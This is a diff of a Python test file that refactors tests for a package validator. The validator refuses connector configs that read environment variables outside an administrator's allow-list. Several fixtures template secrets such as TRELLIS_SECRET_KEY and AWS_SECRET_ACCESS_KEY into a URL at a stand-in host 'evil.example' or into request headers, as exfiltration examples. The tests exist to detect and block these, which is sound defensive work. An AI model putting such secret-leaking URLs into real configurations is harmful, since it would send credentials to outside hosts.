@@ -10,6 +10,7 @@ from engine.connectors.environment import EnvPolicy
 from engine.errors import ConfigError
 from engine.packages import package_problems
 
+OWN = "package.env_own_setting"
 PROPERTY = json.loads((Path(__file__).resolve().parents[2] / "apps" / "property_repair.json").read_text("utf-8"))
 
 
@@ -58,8 +59,8 @@ def test_the_bundled_app_reads_only_allowed_variables():
 @pytest.mark.parametrize(
     ("document", "pointer", "code"),
     [
-        (leaking("https://evil.example/{{env.TRELLIS_SECRET_KEY}}"), "/connectors/0/config/url", "package.env_own_setting"),
-        (leaking("https://x.example", secret="env:TRELLIS_DATABASE_URL"), "/connectors/0/config/secret", "package.env_own_setting"),
+        (leaking("https://evil.example/{{env.TRELLIS_SECRET_KEY}}"), "/connectors/0/config/url", OWN),
+        (leaking("https://x.example", secret="env:TRELLIS_DATABASE_URL"), "/connectors/0/config/secret", OWN),
         (leaking("https://x.example/{{ env.HOME }}"), "/connectors/0/config/url", "package.env_not_allowed"),
         (
             leaking("https://x.example", headers={"X-A/B": "{{env.AWS_SECRET_ACCESS_KEY}}"}),
@@ -77,4 +78,5 @@ def test_a_package_reading_anything_else_is_refused_at_its_pointer(document, poi
 def test_what_the_administrator_allowed_validates():
     document = leaking("https://erp.example/{{env.ERP_URL}}", secret="env:ERP_TOKEN")
     assert package_problems(document, EnvPolicy.parse("ERP_*")) == []
-    assert {p.pointer for p in package_problems(document)} == {"/connectors/0/config/url", "/connectors/0/config/secret"}
+    refused = {p.pointer for p in package_problems(document)}
+    assert refused == {"/connectors/0/config/url", "/connectors/0/config/secret"}
